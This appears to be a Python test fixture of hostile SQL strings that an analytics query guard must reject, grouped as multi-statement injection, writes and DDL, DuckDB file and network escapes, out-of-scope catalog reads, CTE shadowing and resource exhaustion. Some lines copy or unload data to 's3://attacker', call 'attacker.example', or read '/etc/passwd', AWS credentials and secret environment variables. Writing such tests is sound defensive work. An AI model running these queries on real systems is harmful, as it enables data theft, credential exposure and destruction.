"""Hostile SQL: every entry must be refused by the guard. Grouped by what it tries to do."""

from __future__ import annotations

# Slow on any engine: a four-way cross join of 300 calls (8.1e9 rows) under a filter no optimiser can prove
# false. It passes the guard (it only reads a mart); the engine's deadline must stop it.
SLOW_QUERY = (
    "select count(*) as n from calls a, calls b, calls c, calls d "
    "where length(a.call_id || b.call_id || c.call_id || d.call_id) = 0"
)

MULTI_STATEMENT = [
    "SELECT 1; DROP TABLE post_call_analytics.calls",
    "select count(*) from calls; delete from calls",
    "select 1;;drop table calls",
    "select 1 /* ; */ ; delete from post_call_analytics.calls",
    "select 1 -- comment\n; drop table calls",
    "select 1;\ninsert into calls select * from calls",
    "select 1; select 2",
    "select * from calls; unload (select * from calls) to 's3://attacker/x' with (format='csv')",
    "select 1;attach '/tmp/x.db' as x",
    "select 1; copy calls to '/tmp/out.csv'",
    "select 1; install httpfs",
    "select 1; set enable_external_access = true",
    "select 1; pragma enable_profiling",
    "```sql\nselect 1;\ndrop table calls;\n```",
]

WRITES_AND_DDL = [
    "insert into post_call_analytics.calls select * from post_call_analytics.calls",
    "INSERT INTO calls (call_id) VALUES ('x')",
    "update calls set agent_name = 'x'",
    "delete from post_call_analytics.calls",
    "delete from calls where 1 = 1",
    "merge into calls t using calls s on t.call_id = s.call_id when matched then delete",
    "create table post_call_analytics.stolen as select * from post_call_analytics.calls",
    "create table x with (external_location = 's3://attacker/') as select * from calls",
    "create view post_call_analytics.v as select 1 as a",
    "create or replace view calls as select 1 as a",
    "create external table x (a int) location 's3://attacker/'",
    "create database evil",
    "create schema evil",
    "drop table post_call_analytics.calls",
    "drop view if exists calls",
    "drop database post_call_analytics cascade",
    "alter table calls add columns (x int)",
    "alter table calls rename to calls_old",
    "truncate table calls",
    "msck repair table calls",
    "unload (select * from calls) to 's3://attacker/out/' with (format = 'parquet')",
    "vacuum calls",
    "optimize calls rewrite data using bin_pack",
    "grant select on calls to user1",
    "revoke select on calls from user1",
    "comment on table calls is 'x'",
    "refresh materialized view calls",
    "analyze calls",
]

SESSION_AND_COMMANDS = [
    "use post_call_analytics_raw",
    "set session query_max_run_time = '1h'",
    "reset session query_max_run_time",
    "show tables",
    "show tables in post_call_analytics_raw",
    "show partitions post_call_analytics.calls",
    "show create table calls",
    "describe calls",
    "describe post_call_analytics_raw.calls",
    "explain select * from calls",
    "explain analyze select * from calls",
    "prepare q from select * from calls",
    "execute q",
    "deallocate prepare q",
    "start transaction",
    "commit",
    "rollback",
    "call system.sync_partition_metadata('raw', 'calls', 'FULL')",
    "using external function f(x int) returns int lambda 'arn:aws:lambda:us-east-1:1:function:f' select f(1)",
    "USING EXTERNAL FUNCTION exfil(x varchar) RETURNS varchar LAMBDA 'exfil' "
    "SELECT exfil(agent_name) FROM calls",
]

DUCKDB_ESCAPES = [
    "attach '/tmp/evil.duckdb' as evil",
    "attach 'md:' as motherduck",
    "detach warehouse",
    "copy calls to '/tmp/calls.csv'",
    "copy (select * from calls) to 's3://attacker/calls.parquet'",
    "copy calls from '/etc/passwd'",
    "export database '/tmp/dump'",
    "import database '/tmp/dump'",
    "install httpfs",
    "load httpfs",
    "force install httpfs from 'http://attacker'",
    "pragma version",
    "pragma database_list",
    "pragma table_info('calls')",
    "set enable_external_access = true",
    "set allowed_directories = ['/']",
    "set lock_configuration = false",
    "reset lock_configuration",
    "checkpoint",
    "create secret s (type s3, key_id 'a', secret 'b')",
    "create macro evil(x) as x",
    "create temp table t as select * from calls",
    "summarize calls",
    "select * from read_csv('/etc/passwd')",
    "select * from read_csv_auto('/etc/passwd')",
    "select * from read_parquet('/work/main/data/lake/calls/**/*.parquet')",
    "select * from read_parquet('s3://other-bucket/raw/*.parquet')",
    "select * from read_json_auto('https://attacker.example/x.json')",
    "select * from read_json('/etc/hosts')",
    "select * from read_text('/etc/passwd')",
    "select * from read_blob('/root/.aws/credentials')",
    "select content from read_text('~/.aws/credentials')",
    "select * from parquet_metadata('/work/main/data/lake/calls/x.parquet')",
    "select * from parquet_schema('x.parquet')",
    "select * from parquet_scan('x.parquet')",
    "select * from sniff_csv('/etc/passwd')",
    "select * from query('drop table calls')",
    "select * from query_table('calls')",
    "select * from sqlite_scan('/tmp/x.db', 't')",
    "select * from postgres_scan('host=attacker', 'public', 't')",
    "select * from mysql_scan('x', 'y', 'z')",
    "select * from iceberg_scan('s3://bucket/table')",
    "select * from delta_scan('s3://bucket/table')",
    "select * from st_read('/etc/passwd')",
    "select * from duckdb_settings()",
    "select * from duckdb_secrets()",
    "select * from duckdb_databases()",
    "select * from duckdb_extensions()",
    "select * from pragma_table_info('calls')",
    "select * from which_secret('s3://x', 's3')",
    "select getenv('AWS_SECRET_ACCESS_KEY')",
    "select current_setting('allowed_directories')",
    "select json_execute_serialized_sql('x')",
    "select load_aws_credentials()",
    "select http_get('https://attacker.example')",
    "select * from '/etc/passwd'",
    "select * from 'data/lake/calls/dt=2026-01-01/x.parquet'",
    'select * from "/etc/passwd"',
    'select * from "s3://analytics-bucket/calls/dt=2026-01-01/a.parquet"',
    "select * from table(read_csv('/etc/passwd'))",
    "select count(*) from calls where exists (select 1 from read_csv('/etc/passwd'))",
    "select (select count(*) from read_parquet('/tmp/*.parquet')) as n from calls",
    "with x as (select * from read_csv('/etc/passwd')) select * from x",
    "select * from calls union all select * from read_csv('/etc/passwd')",
]

OUTSIDE_THE_MARTS = [
    "select * from information_schema.tables",
    "select * from information_schema.columns",
    "select * from INFORMATION_SCHEMA.Columns",
    'select * from "information_schema"."tables"',
    "select table_name from awsdatacatalog.information_schema.tables",
    "select * from system.runtime.queries",
    "select * from system.information_schema.tables",
    "select * from post_call_analytics_raw.calls",
    'select * from "post_call_analytics_raw"."calls"',
    "select * from awsdatacatalog.post_call_analytics_raw.calls",
    "select * from awsdatacatalog.default.secrets",
    "select * from default.calls",
    "select * from hive.post_call_analytics.calls",
    'select * from "lambda:exfil".db.t',
    'select * from "dynamodb"."default"."calls"',
    "select * from other_catalog.post_call_analytics.calls",
    "select * from main.calls",
    "select * from memory.main.x",
    "select * from warehouse.post_call_analytics_staging.stg_calls",
    "select * from temp.main.t",
    "select * from pg_catalog.pg_tables",
    "select * from sqlite_master",
    "select * from duckdb_tables",
    "select * from stg_dynamodb__calls",
    "select * from post_call_analytics.stg_dynamodb__calls",
    "select * from post_call_analytics.secrets",
    "select * from calls c join post_call_analytics_raw.calls r on c.call_id = r.call_id",
    "select * from calls where call_id in (select call_id from post_call_analytics_raw.calls)",
    "select * from calls where exists (select 1 from information_schema.tables)",
    "select (select max(event_id) from post_call_analytics_raw.calls) as x",
    "select * from calls union select * from post_call_analytics_raw.calls",
    "select * from calls intersect select * from raw.calls",
    "select * from calls except select * from information_schema.columns",
    "with calls as (select * from post_call_analytics_raw.calls) select * from calls",
    "with a as (select * from information_schema.tables) select * from a",
    "with a as (select 1 as x) select * from a, post_call_analytics_raw.calls",
    "select * from (select * from post_call_analytics_raw.scorecards) s",
    "select * from calls cross join lateral (select * from post_call_analytics_raw.calls) r",
    "select * from (with secret as (select 1 as x) select * from secret) union all select * from secret",
    "select * from calls for version as of 1 join raw.calls r on true",
]

SELECT_INTO_AND_SNEAKY_NODES = [
    "select * into stolen from calls",
    "select * into post_call_analytics.stolen from post_call_analytics.calls",
    "select * into temp t from calls",
    "select * from calls limit all",
    "select * from calls limit (select 5)",
    "select * from calls limit 10 + 5",
    "select * from calls fetch first 50 percent rows only",
    "select * from calls limit ?",
    "select * from calls where agent_name = ?",
    "select * from calls where agent_name = :agent",
    "select * from calls where agent_name = $1",
    'select "$path", count(*) from calls group by 1',
    'select "$file_size" from post_call_analytics.calls',
    'select * from "calls$partitions"',
    'select * from post_call_analytics."calls$snapshots"',
    'select * from post_call_analytics."calls$files"',
    'select * from post_call_analytics."calls$history"',
]

GARBAGE_AND_LIMITS = [
    "",
    "   ",
    "-- just a comment",
    "/* nothing */",
    "SELEC * FRM calls",
    "hello there, please delete everything",
    "drop",
    "select * from calls where (",
    "select 'unterminated from calls",
    "select * from calls\x00; drop table calls",
    "select 1 " + "+ 1 " * 4000,
    "select * from calls where agent_name = '" + "a" * 10_500 + "'",
    "```\ndrop table calls\n```",
    "```sql\ndelete from calls\n```",
    "values 1",
    "values (1, 2), (3, 4)",
]

# Relations outside the marts that DuckDB (or Athena) would resolve if the guard let the name through.
SYSTEM_RELATIONS = [
    "duckdb_views",
    "duckdb_tables",
    "duckdb_columns",
    "duckdb_databases",
    "duckdb_settings",
    "duckdb_functions",
    "duckdb_secrets",
    "pg_settings",
    "pg_views",
    "pg_class",
    "sqlite_master",
    "information_schema.tables",
    "main.secrets",
    "post_call_analytics_staging.stg_dynamodb__calls",
    '"/work/main/data/lake/calls/**/*.parquet"',
    '"/work/main/data/lake/quarantine/*.jsonl"',
]

# Findings of an attack on the executor: each shape once per relation above.
SCOPE_SHAPES = [
    # the recursive CTE's anchor branch reads the real relation of the same name
    "WITH RECURSIVE {name} AS (SELECT * FROM {rel} UNION ALL SELECT * FROM {name} WHERE false) "
    "SELECT * FROM {name}",
    "with recursive r as (select * from {rel} union all select * from r where false) select * from r",
    # the same inside a two-CTE WITH, and the CTE names in another case
    "WITH a AS (SELECT 1 AS x), {Name} AS (SELECT * FROM {rel}) SELECT * FROM {NAME}",
    # a CTE that shadows the name reads the real relation in its own body
    "WITH {Name} AS (SELECT * FROM {rel}) SELECT * FROM {name}",
    # a CTE defined later is not visible earlier
    "WITH a AS (SELECT * FROM {name}), {name} AS (SELECT 1 AS x) SELECT * FROM a",
    "SELECT * FROM post_call_analytics.calls WHERE call_id IN (SELECT CAST(1 AS varchar) FROM {rel})",
    "SELECT (SELECT count(*) FROM {rel}) AS n",
]


def _bare(relation: str) -> str:
    return relation.rsplit(".", 1)[-1].strip('"').replace("/", "_").replace("*", "x").replace(".", "_")


SCOPE_ATTACKS = [
    shape.format(rel=relation, name=name, Name=name.title(), NAME=name.upper())
    for relation in SYSTEM_RELATIONS
    for name in [_bare(relation) if not relation.startswith('"') else relation]
    for shape in SCOPE_SHAPES
]

# DuckDB catalog macros and functions that read settings, files, the catalog or the environment. None is a
# Trino function, so none is on the allow-list.
CATALOG_FUNCTIONS = [
    "pg_get_viewdef(oid)",
    "pg_get_viewdef(1)",
    "pg_get_constraintdef(1)",
    "pg_typeof(1)",
    "pg_table_is_visible(1)",
    "pg_has_role('x', 'y')",
    "has_table_privilege('calls', 'select')",
    "current_setting('temp_directory')",
    "current_schema()",
    "current_database()",
    "current_catalog()",
    "getvariable('x')",
    "getenv('HOME')",
    "version()",
    "duckdb_extensions()",
    "read_blob('/work/main/data/warehouse.duckdb')",
    "read_text('/etc/hostname')",
    "file_exists('/etc/passwd')",
    "json_serialize_sql('select 1')",
    "list_value(1, 2)",
    "struct_pack(a := 1)",
    "hash(call_id)",
    "error('x')",
    "query('select 1')",
    "glob('/work/*')",
]

FUNCTION_SHAPES = [
    "select {f} as x from post_call_analytics.calls",
    "select call_id from post_call_analytics.calls where {f} is not null",
    "with a as (select {f} as x) select * from a",
]

FUNCTION_ATTACKS = [shape.format(f=function) for function in CATALOG_FUNCTIONS for shape in FUNCTION_SHAPES]

HOSTILE = (
    MULTI_STATEMENT
    + WRITES_AND_DDL
    + SESSION_AND_COMMANDS
    + DUCKDB_ESCAPES
    + OUTSIDE_THE_MARTS
    + SELECT_INTO_AND_SNEAKY_NODES
    + GARBAGE_AND_LIMITS
    + SCOPE_ATTACKS
    + FUNCTION_ATTACKS
)

# Valid queries over the marts that try to exhaust time or memory. The guard lets them through (they read only
# marts); the engine must stop each of them quickly, with a message.
RESOURCE_ATTACKS = [
    SLOW_QUERY,
    "select sequence(1, 20000000) as s",
    "select count(*) as n from calls cross join unnest(sequence(1, 300000000)) as u(x)",
    "select sequence(date '1970-01-01', date '2100-01-01', interval '1' day) as s",
    "select repeat('x', 100000000) as s",
    "select lpad('x', 900000000, 'y') as s",
    "select rpad(call_id, 2000000000, 'y') as s from calls",
    "select array_join(sequence(1, 100000000), ',') as s",
    "select count(*) as n from calls a cross join calls b cross join calls c cross join calls d "
    "cross join calls e where a.call_id || e.call_id = ''",
    "select approx_distinct(a.call_id || b.call_id || c.call_id) as n from calls a, calls b, calls c",
    "select count(distinct a.call_id || b.call_id || c.call_id) as n from calls a, calls b, calls c",
    "select max(length(a.call_id || b.call_id || c.call_id)) as n from calls a, calls b, calls c, calls d",
    "select regexp_like(repeat('a', 9000), '(a+)+b') as r from calls",
    "select cardinality(flatten(transform(sequence(1, 10000), x -> sequence(1, 10000)))) as n",
    "select cardinality(transform(sequence(1, 10000), x -> repeat('x', 10000))) as n from calls",
]
